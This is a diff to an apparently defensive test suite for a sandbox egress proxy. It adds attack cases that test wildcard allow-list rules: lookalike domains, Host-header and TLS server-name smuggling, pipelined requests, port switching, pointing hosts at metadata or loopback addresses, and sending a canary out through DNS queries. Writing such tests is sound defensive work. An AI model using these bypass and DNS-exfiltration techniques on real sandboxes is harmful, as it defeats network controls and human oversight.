@@ -105,6 +105,12 @@ const NAMES: readonly (readonly [name: string, host: string, address: string])[]
 	["metadata", "metadata.test", ADDRESSES.metadata],
 	["rebinding", "rebind.test", "127.0.0.1"],
 	["mapped", "mapped.test", "127.0.0.1"],
+	["beneath-wildcard-inside", "inside.wild.test", "127.0.0.1"],
+	["beneath-wildcard-private", "private.wild.test", ADDRESSES.private],
+	["beneath-wildcard-metadata", "metadata.wild.test", ADDRESSES.metadata],
+	// Granted with another address, to which they led once.
+	["with-address-to-metadata", "pinned.test", ADDRESSES.metadata],
+	["with-address-to-inside", "moved.test", "127.0.0.1"],
 ];
 
 const names = NAMES.flatMap(([name, host, address]) => {
@@ -136,6 +142,12 @@ function clientHello(name: string): string {
 	const handshake = `\x01\x00${u16(body.length)}${body}`;
 	return `\x16\x03\x01${u16(handshake.length)}${handshake}`;
 }
+
+const wild = { host: ADDRESSES.other, port: 80 };
+
+/** Straight to where a wildcard's names lead inside, and there the words; without a sandbox, straight to the goal. */
+const byNamedLine = ({ proxy, connect, settings, say }: Hostile<Try>) =>
+	connect(proxy === null ? settings.direct : { host: "127.78.0.1", port: settings.direct.port }, settings.words).then(say);
 
 const publicSite = { host: ADDRESSES.granted, port: 443 };
 
@@ -172,6 +184,76 @@ export const EGRESS: readonly Attack[] = [
 		(scene) => tunnel(scene, "evilgranted.test:80", { host: ADDRESSES.other, port: 80 }),
 		{
 			impossible: isolatedOnly,
+		},
+	),
+	egress(
+		"wildcard-own-domain",
+		"reach the domain itself of which the names beneath are granted",
+		(scene) => tunnel(scene, "wild.test:80", wild),
+		{
+			impossible: isolatedOnly,
+		},
+	),
+	egress("wildcard-suffix", "reach a name that ends like a granted wildcard", (scene) => tunnel(scene, "evilwild.test:80", wild), {
+		impossible: isolatedOnly,
+	}),
+	egress(
+		"wildcard-prefix",
+		"reach a name that begins like a granted wildcard",
+		(scene) => tunnel(scene, "a.wild.test.evil.test:80", wild),
+		{
+			impossible: isolatedOnly,
+		},
+	),
+	egress(
+		"wildcard-host-header",
+		"reach another site by the Host header in a tunnel to a name beneath a wildcard",
+		(scene) => tunnel(scene, "a.wild.test:80", wild, get(scene, "other.test")),
+		{ impossible: isolatedOnly },
+	),
+	egress(
+		"wildcard-port",
+		"reach another port of a name beneath a wildcard",
+		(scene) => tunnel(scene, "a.wild.test:443", { host: ADDRESSES.granted, port: 443 }),
+		{ impossible: isolatedOnly },
+	),
+	egress(
+		"wildcard-line-other-host",
+		"say another host on the line that waits for the names beneath a wildcard",
+		(scene) => tunnel(scene, "other.test:80", wild, get(scene, "other.test")),
+		{ impossible: isolatedOnly, program: byNamedLine },
+	),
+	egress(
+		"wildcard-line-second-request",
+		"say another host in a second request on the line that waits for the names beneath a wildcard",
+		(scene) => {
+			const first = "GET / HTTP/1.1\r\nHost: a.wild.test\r\n\r\n";
+			return tunnel(scene, "a.wild.test:80", wild, first + get(scene, "other.test"));
+		},
+		{ impossible: isolatedOnly, program: byNamedLine },
+	),
+	egress(
+		"wildcard-line-sni",
+		"say another host by TLS's server name on the line that waits for the names beneath a wildcard",
+		(scene) => tunnel(scene, "a.wild.test:80", wild, clientHello(`${scene.canary.toLowerCase()}.other.test`)),
+		{ impossible: isolatedOnly, program: byNamedLine, escaped: (scene) => scene.listeners.heard(scene.canary.toLowerCase()) },
+	),
+	egress(
+		"wildcard-names",
+		"carry words out in questions to the name server that answers for a wildcard",
+		(scene) => ({ first: "", inside: "", direct: wild, words: scene.canary.slice(7) }),
+		{
+			impossible: isolatedOnly,
+			program: async ({ dns, settings: { words } }) => {
+				const ends = ["leak.test", "wild.test", "x.wild.test"];
+				await Promise.all(
+					ends.flatMap((end) => [
+						dns.promises.lookup(`${words}.${end}`).catch(() => {}),
+						dns.promises.resolveTxt(`${words}.${end}`).catch(() => {}),
+					]),
+				);
+			},
+			escaped: (scene) => scene.listeners.heard(scene.canary.slice(7).toLowerCase()),
 		},
 	),
 	egress("without-password", "use the proxy without its password", async (scene) => {
